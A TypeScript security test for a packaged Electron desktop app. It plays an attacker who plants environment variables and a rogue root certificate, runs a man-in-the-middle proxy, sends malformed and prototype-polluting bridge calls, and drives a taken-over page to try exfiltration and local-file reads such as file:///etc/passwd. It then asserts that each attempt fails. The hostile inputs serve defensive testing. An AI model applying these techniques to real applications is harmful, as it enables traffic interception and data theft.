/**
 * What an attacker tries on a packaged app that runs: by its environment, from its window, and over the bridge. Throws
 * what came of it. Whoever looks into a window needs a package that may be debugged (smoke.ts).
 */
import { deepStrictEqual } from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { callNames } from '../../src-preload/contract/names';
import { readNetworkRecord } from '../../test/support/app/network-record';
import { makeAuthority, makeCertificate } from '../../test/support/http/make-certificate';
import { portOf } from '../../test/support/http/ports';
import { startProxy } from '../../test/support/http/proxy-server';
import { startSecureMarket } from '../../test/support/http/secure-market';

export interface PackageAttack {
  /** With which the package is started. */
  env: Readonly<Record<string, string>>;
  args: readonly string[];
  onWindow(page: Page): Promise<void>;
  /** After the app has ended: what Chromium wrote down of its network. */
  afterwards(): Promise<void>;
}

const naver = 'api.commerce.naver.com';
const testAddresses = ['BALSONG_NAVER_URL', 'BALSONG_BRIGHTMALL_URL', 'BALSONG_UPDATE_URL'];

/** @param work an empty folder */
export async function openAttack(work: string): Promise<PackageAttack> {
  /** Who came to where no one may come. */
  const came: string[] = [];
  const listener = createServer((socket) => {
    came.push('TCP');
    socket.destroy();
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const udp = createSocket('udp4', () => came.push('UDP'));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');

  // Somebody in between who shows a certificate for the market, of an authority that only the environment names.
  const planted = makeAuthority('Planted Root');
  const impostor = await startSecureMarket(makeCertificate(planted, naver));
  const proxy = await startProxy(impostor.port);
  const authority = join(work, 'planted.pem');
  await writeFile(authority, planted.cert);
  const record = join(work, 'net-log.json');
  const place = `http://127.0.0.1:${portOf(listener)}`;

  return {
    env: {
      ...Object.fromEntries(testAddresses.map((name) => [name, place])),
      NODE_TLS_REJECT_UNAUTHORIZED: '0',
      NODE_EXTRA_CA_CERTS: authority,
      SSL_CERT_FILE: authority,
      // Fuses: neither is it node, nor does it hear node's options.
      ELECTRON_RUN_AS_NODE: '1',
      NODE_OPTIONS: '--inspect=0 --require=/nowhere.js',
      // The proxies of a system without a desktop.
      https_proxy: `http://${proxy.name}`,
      no_proxy: '',
    },
    args: [`--log-net-log=${record}`, '--net-log-capture-mode=Everything'],
    async onWindow(page) {
      // tsx, under which this runs, wraps named functions in one that the page lacks.
      await page.evaluate('globalThis.__name = (named) => named');
      await followsNoVariable(page);
      deepStrictEqual([...new Set(proxy.asked)], [`${naver}:443`], 'only the market was asked for');
      deepStrictEqual(impostor.written, [], 'nothing was written to who is not the market');
      await answersOddCalls(page);
      await leavesByNoWay(page, place, udp.address().port);
      deepStrictEqual(came, [], 'no one came');
    },
    async afterwards() {
      const { events, lookups, connections } = await readNetworkRecord(record);
      deepStrictEqual(
        { isRecorded: events > 0, lookups, connections },
        { isRecorded: true, lookups: [], connections: [] },
      );
      deepStrictEqual(came, [], 'no one came');
      udp.close();
      listener.close();
      await Promise.all([proxy.close(), impostor.close()]);
    },
  };
}

/** A store that is saved now is the market's own, and its test call reaches no one else. */
async function followsNoVariable(page: Page): Promise<void> {
  const seen = await page.evaluate(async () => {
    const { call } = Reflect.get(globalThis, 'desk');
    const { value: start } = await call('app-start', {});
    const secrets = { market: 'naver', clientId: 'attacked', clientSecret: '$2a$04$abcdefghijklmnopqrstuu' };
    const { value: saved } = await call('stores-save', { label: 'attacked', secrets });
    const { value: tested } = await call('stores-test', { storeId: saved.store.id });
    return {
      ignored: start.ignoredVariables,
      isTest: start.testAddress,
      address: saved.store.testAddress ?? 'the market',
      said: { code: tested.code, fault: tested.fault },
    };
  });
  deepStrictEqual(seen, {
    ignored: ['NODE_TLS_REJECT_UNAUTHORIZED', ...testAddresses],
    isTest: false,
    address: 'the market',
    said: { code: 'no-connection', fault: { is: 'certificate', problem: 'untrusted', issuer: 'Planted Root' } },
  });
}

/** Every call of the bridge with what fits none: an answer, and the same one. */
async function answersOddCalls(page: Page): Promise<void> {
  const answers = await page.evaluate(async (names) => {
    const { call } = Reflect.get(globalThis, 'desk');
    const deep = Array.from({ length: 500 }).reduce<unknown>((inner) => [inner], 1);
    const odd = [null, true, Number.NaN, 7n, 'x'.repeat(100_000), [], [{}], deep, new Uint8Array(9)];
    const own = JSON.parse('{"__proto__":{"a":1},"constructor":1}');
    const asked = names.flatMap((name) => [...odd, own, { a: own }].map((input) => call(name, input)));
    const ended: PromiseSettledResult<{ failure?: { code: string } }>[] = await Promise.allSettled(asked);
    return ended.map((one) => (one.status === 'fulfilled' ? one.value.failure?.code : String(one.reason)));
  }, callNames);
  deepStrictEqual([...new Set(answers)].toSorted(), ['Error: no file', 'bad-input']);
}

/** Whatever a page that was taken over could try; it stays where it is. */
async function leavesByNoWay(page: Page, place: string, udpPort: number): Promise<void> {
  const address = page.url();
  const ways = await page.evaluate(
    async ({ to, stun }) => {
      const refused = (way: Promise<unknown>): Promise<string> =>
        way.then(
          () => 'went out',
          () => 'refused',
        );
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
        for (const href of [`${to}/${rel}`, `http://secret-${rel}.example/`]) {
          const link = Object.assign(document.createElement('link'), { rel, href });
          document.head.append(link);
        }
      }
      const element = (name: string, given: object): Promise<unknown> =>
        new Promise((resolve, reject) => {
          const made = Object.assign(document.createElement(name), given, { onload: resolve, onerror: reject });
          document.body.append(made);
        });
      const submitted = document.createElement('form');
      submitted.action = to;
      document.body.append(submitted);
      submitted.submit();
      const frame = document.createElement('iframe');
      frame.src = to;
      document.body.append(frame);
      navigator.sendBeacon(to, 'x');
      document.body.append(
        Object.assign(document.createElement('script'), { textContent: 'globalThis.planted = true' }),
      );
      const gathered = async (): Promise<void> => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
        peer.createDataChannel('out');
        const complete = new Promise<void>((resolve) => {
          peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve());
        });
        await peer.setLocalDescription(await peer.createOffer());
        await complete;
      };
      await gathered().catch(() => undefined);
      const socket = new Promise<void>((resolve, reject) => {
        const made = new WebSocket(to.replace('http', 'ws'));
        made.addEventListener('open', () => resolve());
        made.addEventListener('error', reject);
      });
      return {
        fetch: await refused(fetch(to)),
        socket: await refused(socket),
        image: await refused(element('img', { src: `${to}/image` })),
        script: await refused(element('script', { src: `${to}/script.js` })),
        above: await refused(element('script', { src: 'app://desk/..%2f..%2fpackage.json' })),
        other: await refused(element('img', { src: 'app://other/index.html' })),
        file: await refused(element('img', { src: 'file:///etc/hostname' })),
        module: await refused(import(`${to}/module.js`)),
        serviceWorker: await refused(navigator.serviceWorker.register('app://desk/index.html')),
        opened: [to, 'https://evil.example/', 'file:///etc/passwd', 'mailto:a@b.example', 'ms-settings:'].map(
          (each) => window.open(each) === null,
        ),
        camera: await refused(navigator.mediaDevices.getUserMedia({ audio: true })),
        clipboard: await refused(navigator.clipboard.readText()),
        inline: Reflect.get(globalThis, 'planted'),
      };
    },
    { to: place, stun: udpPort },
  );
  const names = ['fetch', 'socket', 'image', 'script', 'above', 'other', 'file', 'module', 'serviceWorker'];
  deepStrictEqual(ways, {
    ...Object.fromEntries([...names, 'camera', 'clipboard'].map((name) => [name, 'refused'])),
    opened: Array.from({ length: 5 }, () => true),
    inline: undefined,
  });
  deepStrictEqual(page.url(), address, 'the window stays where it is');
  // The window, and the pages in which sheets are read.
  const pages = page.context().pages();
  const strange = pages.map((each) => each.url()).filter((each) => !/^app:\/\/(?:desk|reader)\//u.test(each));
  deepStrictEqual(strange, [], 'no other page is opened');
}
